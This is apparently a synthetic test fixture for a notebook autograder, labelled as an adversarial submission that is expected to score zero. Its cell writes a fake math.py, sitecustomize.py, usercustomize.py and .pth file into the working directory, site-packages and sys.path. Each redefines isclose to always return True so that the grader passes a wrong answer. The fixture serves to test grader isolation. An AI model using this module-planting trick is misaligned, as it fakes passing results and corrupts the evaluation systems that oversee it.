# SYNTHETIC adversarial submission (test fixture, not learner work).
# class: 6 reaching outside
# Tries to plant modules the trusted test process might import (math, sitecustomize).
# expect: q1_mean_income=0
# %% cell q1_mean_income_answer
import os
import site
import sys

payload = "isclose = lambda *a, **k: True\n# adversarial-canary\n"
places = [os.getcwd(), "data", *site.getsitepackages(), site.getusersitepackages(), *sys.path]
for folder in places:
    for name in ("math.py", "sitecustomize.py", "usercustomize.py", "adversarial-canary.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(payload)
        except OSError:
            pass
mean_income = 20000.0
